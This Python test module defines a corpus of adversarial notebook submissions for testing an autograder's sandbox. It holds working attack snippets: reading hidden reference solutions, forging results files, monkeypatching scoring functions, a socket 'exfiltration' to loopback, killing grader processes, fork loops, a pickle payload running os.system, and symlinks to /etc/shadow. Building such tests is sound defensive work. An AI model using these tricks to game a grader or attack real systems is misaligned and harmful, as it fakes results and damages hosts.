"""The adversarial corpus: submissions that attack the grader instead of doing the work. Each is the student release
(every stub still raises NotImplementedError) with one attack in `train`, or in a class body that runs as soon as
the notebook's definitions are loaded. None may gain a point (beyond `may_pass`, which a fake legitimately earns)
or stop the grader.

Every attack is bounded and stops by itself: loops have a fixed count or a deadline, children exit after a few
seconds, the only network address is a loopback listener the test starts. `{placeholders}` are filled in by the
test (paths of the kit and of the grader's output, the listener's port, a marker file).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import submissions as corpus

NOT_DONE = "    raise NotImplementedError()\n"
TRAIN = corpus.TRAIN_HEAD.splitlines(keepends=True)[0]  # the signature alone, for the stubs written here


@dataclass(frozen=True)
class Attack:
    name: str
    cells: dict[str, str]  # grade_id -> new source (the release's other cells are kept)
    may_pass: frozenset[str] = frozenset()  # checks a fake earns honestly (a right shape is a right shape)
    needs: str = "rlimits"  # the weakest sandbox level that stops it (sandbox.LEVELS); tests skip below that
    timeouts: dict[str, float] = field(default_factory=dict)


def fill(source: str, **values) -> str:
    """The attack's source with its {placeholders} filled in (other braces are the attack's own Python)."""
    for key, value in values.items():
        source = source.replace(f"{{{key}!r}}", repr(str(value))).replace(f"{{{key}}}", str(value))
    return source


def _train(body: str) -> dict[str, str]:
    return corpus.loop(body)  # the signature and the device line, then the attack


def _at_load(body: str) -> dict[str, str]:
    """Runs when the definitions are loaded (a class body), before any check; train stays a stub."""
    return {"train": "class _Attack:\n" + "".join(f"    {line}\n" for line in body.splitlines()) + "\n"
                     + TRAIN + NOT_DONE}


READ_SOLUTION = '''    import glob, json, os
    # Look for the reference solution and the hidden graders; if found, use the reference's own cells.
    candidates = [{reference!r}, *glob.glob("/work/*/reference/*.ipynb"), *glob.glob("/tmp/*/*.ipynb"),
                  *glob.glob("/kit/*"), *glob.glob("/*/*.ipynb")]
    for path in candidates:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text and text.startswith("def train"):
                scope = dict(globals())
                exec(text, scope)
                return scope["train"](model, tokens, y, epochs=epochs, lr=lr, device=device)
    for path in [{judges!r}, os.path.join(os.path.dirname(__import__("autograder").__file__), "judges.py")]:
        if os.path.exists(path):
            open(path).read()
            return [0.9 - 0.001 * e for e in range(epochs)]
    raise NotImplementedError()
'''

ATTACKS = (
    Attack("ReadsReferenceAndGraders", _train(READ_SOLUTION), needs="bwrap"),
    Attack("DetectsGradingThenCopiesTheReference", _train(
        "    import os, sys\n"
        "    graded = 'autograder' in sys.modules or os.environ.get('NBGRADER_EXECUTION') or os.getcwd() == '/job'\n"
        "    if not graded:\n"
        "        raise NotImplementedError()\n"
        + READ_SOLUTION), needs="bwrap"),
    Attack("WritesResultsFiles", _at_load(
        "import json, os, glob\n"
        "fake = {'score': 12, 'tests': [], 'output': 'all good'}\n"
        "for folder in [{out!r}, '/job', '/job/out', '..', '/tmp', *glob.glob('/tmp/autograder-*')]:\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'results.json'), 'w') as f:\n"
        "            json.dump(fake, f)\n"
        "    except Exception:\n"
        "        pass\n"), needs="uid"),
    Attack("MonkeypatchesTorchAndSklearn", _at_load(
        "import torch, torch.nn.functional as F\n"
        "F.binary_cross_entropy_with_logits = lambda *a, **k: torch.zeros((), requires_grad=True)\n"
        "torch.Tensor.item = lambda self: 0.0\n"
        "try:\n"
        "    import sklearn.linear_model, sklearn.model_selection\n"
        "    sklearn.model_selection.cross_val_score = lambda *a, **k: __import__('numpy').ones(5)\n"
        "except Exception:\n"
        "    pass\n"
        "try:\n"
        "    import autograder.judges as judges\n"
        "    judges.Thresholds.separable = 0.0\n"
        "except Exception:\n"
        "    pass\n"
        "import autograder.metrics as metrics\n"
        "metrics.separability_score = lambda *a, **k: 1.0\n")),
    Attack("InventsLossesAndEmbeddings", {
        **corpus.summarize("        # invented: two tidy clusters, whatever the input\n"
                           "        side = (x.sum(dim=(1, 2)) > 0).float().unsqueeze(1) * 2 - 1\n"
                           "        return side.repeat(1, self.rnn.hidden_size) * 0.9\n"),
        **corpus.loop("    return [0.69 * 0.99 ** e for e in range(epochs)]\n")},
        may_pass=frozenset({"shapes", "train_returns_losses"})),
    Attack("OpensASocket", _at_load(
        "import socket\n"
        "for _ in range(3):\n"
        "    try:\n"
        "        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "        s.sendall(b'exfiltrated')\n"
        "        s.close()\n"
        "    except OSError:\n"
        "        pass\n"), needs="uid"),
    Attack("KillsTheGrader", _at_load(
        "import os, signal\n"
        "for pid in [os.getppid(), 1]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception:\n"
        "        pass\n"
        "for name in os.listdir('/proc'):\n"
        "    if name.isdigit() and int(name) != os.getpid():\n"
        "        try:\n"
        "            if b'autograder' in open(f'/proc/{name}/cmdline', 'rb').read():\n"
        "                os.kill(int(name), signal.SIGKILL)\n"
        "        except Exception:\n"
        "            pass\n"), needs="uid"),
    Attack("ForkLoop", _train(
        "    import os, time\n"
        "    for _ in range(300):  # bounded: at most 300 children, each gone after 20 s\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                os.setsid()\n"
        "                time.sleep(20)\n"
        "                os._exit(0)\n"
        "        except OSError:\n"
        "            break\n"
        + NOT_DONE), needs="uid"),
    Attack("EndlessLoopIgnoringSIGINT", _train(
        "    import signal, time\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "    deadline = time.monotonic() + 120  # self-stopping, long after the grader's time limit\n"
        "    while time.monotonic() < deadline:\n"
        "        pass\n"
        + NOT_DONE), timeouts={"rnn_model": 15, "mean_model": 15, "loop": 15, "training": 15, "end_to_end": 15}),
    Attack("Allocates30GB", _train(
        "    block = torch.empty(30 * 2**30, dtype=torch.uint8)\n"
        "    block.fill_(1)\n"
        + corpus.REFERENCE_LOOP)),
    Attack("PrintsMegabytes", _at_load(
        "import sys\n"
        "line = 'x' * 1023 + '\\n'\n"
        "for _ in range(50 * 1024):  # 50 MB\n"
        "    sys.stdout.write(line)\n"
        "    sys.stderr.write(line)\n")),
    Attack("PicklePayloadAsResult", _train(
        "    import os, pickle\n"
        "    class Payload:\n"
        "        def __reduce__(self):\n"
        "            return (os.system, ('touch {marker}',))\n"
        "    for name in ('rnn_model', 'mean_model', 'loop', 'training'):\n"
        "        with open(f'out/{name}.pt.tmp', 'wb') as f:\n"
        "            pickle.dump(Payload(), f)\n"
        "        os.replace(f'out/{name}.pt.tmp', f'out/{name}.pt')\n"
        "    os._exit(0)\n")),
    Attack("SymlinkAsResult", _train(
        "    import os\n"
        "    for name in ('loop', 'training', 'end_to_end'):\n"
        "        try:\n"
        "            os.symlink({reference!r}, f'out/{name}.pt')\n"
        "            os.symlink('/etc/shadow', f'out/{name}.error.json')\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)\n")),
)
